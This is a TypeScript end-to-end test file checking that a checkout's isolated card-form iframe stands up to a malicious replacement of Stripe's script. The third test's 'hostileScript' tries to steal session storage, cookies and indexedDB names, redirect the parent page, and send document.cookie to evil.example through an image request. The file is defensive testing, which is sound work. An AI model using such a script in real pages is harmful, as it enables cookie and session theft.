import type { BrowserContext } from 'playwright-core';
import { expect, test } from 'vitest';
import { atSite, browser, world } from './at-site.ts';
import { checkoutPanel } from './checkout-steps.ts';
import { press } from './coins-steps.ts';
import { enter, show } from './pair-steps.ts';
import { startStripeSite } from './pay-site.ts';

// A hostile script gets other error names in the headless shell than in the browsers of members.
atSite({ isWholeBrowser: true, start: () => startStripeSite('card document') });

const long = { timeout: 180_000 };
const small = { width: 390, height: 844 };

/** Puts a script into the place of the provider's. */
const serveScript = (context: BrowserContext, script: string) =>
  context.route('https://js.stripe.com/**', (route) =>
    route.fulfill({ contentType: 'text/javascript', body: script }),
  );

/** Double of the provider's script: fields that are complete once something was typed, and a token. */
const goodScript = `window.Stripe = () => ({
  elements: () => ({
    create: (kind) => {
      const input = document.createElement('input');
      const heard = [];
      input.setAttribute('aria-label', kind);
      input.addEventListener('input', () => heard.forEach((hear) => hear({ complete: input.value.length > 2 })));
      return { mount: (box) => box.append(input), on: (name, hear) => heard.push(hear) };
    },
  }),
  createPaymentMethod: () => Promise.resolve({ paymentMethod: { id: 'pm_card_visa' } }),
});`;

test('a card is added in the document of its own, and pays', long, async () => {
  const person = await world.person('framed');
  const { page, context } = await enter({ world, browser, size: small }, person);
  await serveScript(context, goodScript);
  const asked: string[] = [];
  context.on('request', (request) => asked.push(new URL(request.url()).hostname));
  const foreign = () => asked.filter((host) => host === 'localhost' || host.endsWith('stripe.com'));
  await show(page, 'checkout?app=coin:500');
  await checkoutPanel(page).getByText('No existing payment records.').waitFor();
  // Nothing of the provider is loaded before the member wants to add a card.
  expect(foreign()).toEqual([]);
  await press(page, 'Add Card');
  const frame = page.frameLocator('iframe[title="Card form"]');
  const add = frame.getByRole('button', { name: 'Add Card' });
  await add.waitFor();
  expect(new Set(foreign())).toEqual(new Set(['localhost', 'js.stripe.com']));
  expect(await add.isDisabled()).toBe(true);
  for (const field of ['cardNumber', 'cardExpiry', 'cardCvc']) await frame.getByLabel(field).fill('1234');
  await frame.getByRole('textbox', { name: 'Name on the card' }).fill('Sam Rivera');
  await add.click();
  await checkoutPanel(page).getByText('Visa •••• 4242').waitFor();
  await press(page, 'Pay Now 7.99 USD');
  await checkoutPanel(page).getByRole('heading', { name: 'Paid $7.99' }).waitFor();
  await context.close();
});

test('a card typed into the document pays once with its ticket, and is not kept', long, async () => {
  const person = await world.person('framedonce');
  const { page, context } = await enter({ world, browser, size: small }, person, true);
  await serveScript(context, goodScript);
  await show(page, 'checkout?app=coin:500');
  await press(page, 'Add Card');
  await page.getByRole('switch', { name: 'Keep this card' }).uncheck();
  const frame = page.frameLocator('iframe[title="Card form"]');
  for (const field of ['cardNumber', 'cardExpiry', 'cardCvc']) await frame.getByLabel(field).fill('1234');
  await frame.getByRole('textbox', { name: 'Name on the card' }).fill('Sam Rivera');
  await frame.getByRole('button', { name: 'Add Card' }).click();
  await checkoutPanel(page).getByText('For this purchase only').waitFor();
  await press(page, 'Pay Now 7.99 USD');
  await checkoutPanel(page).getByRole('heading', { name: 'Paid $7.99' }).waitFor();
  const { result } = await person.call('customerPaymentMethods', {});
  expect(result.cards).toEqual([]);
  await context.close();
});

/** Reaches for everything of the app, and writes down what it got. */
const hostileScript = `(async () => {
  const got = {};
  const reach = async (name, work) => {
    try { got[name] = String(await work()); } catch (error) { got[name] = 'refused ' + error.name; }
  };
  await reach('document', () => parent.document.title);
  await reach('session', () => parent.sessionStorage.getItem('mitto-session'));
  await reach('local', () => parent.localStorage.length);
  await reach('lead', () => { parent.location.replace('https://evil.example/'); return 'led'; });
  await reach('cookie', () => document.cookie);
  await reach('storage', () => Object.keys(sessionStorage).concat(Object.keys(localStorage)).join());
  await reach('rows', async () => (await indexedDB.databases()).map(({ name }) => name).join());
  for (const path of ['/user/info', '/v2/payment/charges']) {
    await reach('call ' + path, async () => (await fetch('APP' + path, { credentials: 'include' })).status);
    await reach('own ' + path, async () => (await fetch(path, { credentials: 'include' })).status);
  }
  await reach('image', () => new Promise((resolve) => {
    const image = new Image();
    image.onload = () => resolve('loaded');
    image.onerror = () => resolve('refused');
    image.src = 'https://evil.example/?' + encodeURIComponent(document.cookie);
  }));
  // Words that are no card, and a ticket used a second time.
  parent.postMessage({ mitto: 'card', card: { source: '<script>', name: 'x' } }, '*');
  parent.postMessage({ mitto: 'height', height: 1e9 }, '*');
  document.documentElement.dataset.got = JSON.stringify(got);
})();`;

test('a hostile script in the provider’s place reads no token, row or cookie of the app', long, async () => {
  const person = await world.person('attacked');
  const { page, context } = await enter({ world, browser, size: small }, person, true);
  await page.evaluate(() => {
    localStorage['planted'] = 'canary';
  });
  const asked: string[] = [];
  context.on('requestfinished', (request) => asked.push(request.url()));
  await serveScript(context, hostileScript.replace('APP', world.url));
  await show(page, 'checkout?app=coin:500');
  await press(page, 'Add Card');
  const root = page.frameLocator('iframe[title="Card form"]').locator('html[data-got]');
  await root.waitFor({ state: 'attached' });
  const got: unknown = JSON.parse((await root.getAttribute('data-got')) ?? '{}');
  expect(got).toEqual({
    document: 'refused SecurityError',
    session: 'refused SecurityError',
    local: 'refused SecurityError',
    lead: 'refused SecurityError',
    cookie: '',
    storage: 'refused SecurityError',
    rows: 'refused UnknownError',
    'call /user/info': 'refused TypeError',
    'own /user/info': '404',
    'call /v2/payment/charges': 'refused TypeError',
    'own /v2/payment/charges': '404',
    image: 'refused',
  });
  expect(asked.filter((address) => address.includes('evil.example'))).toEqual([]);
  expect(page.url()).toContain(world.url);
  const { result } = await person.call('customerPaymentMethods', {});
  expect(result.cards).toEqual([]);
  await context.close();
});

test('the document opens for nobody else, and a ticket once', long, async () => {
  const person = await world.person('ticket');
  const { result } = await person.call('openCardForm', { merchant: 'stripe' });
  const { origin } = new URL(result.url);
  const use = () =>
    fetch(`${world.url}/card/open`, {
      method: 'POST',
      headers: { host: new URL(origin).host, 'content-type': 'application/json' },
      body: JSON.stringify({ ticket: result.ticket }),
    });
  // On the app's own host there is no such document.
  expect((await use()).status).toBe(404);
  const context = await browser.newContext({ viewport: small });
  await serveScript(context, goodScript);
  const page = await context.newPage();
  await page.goto(`${origin}/card`);
  const statuses = await page.evaluate(async (ticket) => {
    const once = async () =>
      (
        await fetch('/card/open', {
          method: 'POST',
          headers: { 'content-type': 'application/json' },
          body: JSON.stringify({ ticket }),
        })
      ).status;
    return [await once(), await once()];
  }, result.ticket);
  expect(statuses).toEqual([200, 404]);
  await context.close();
});
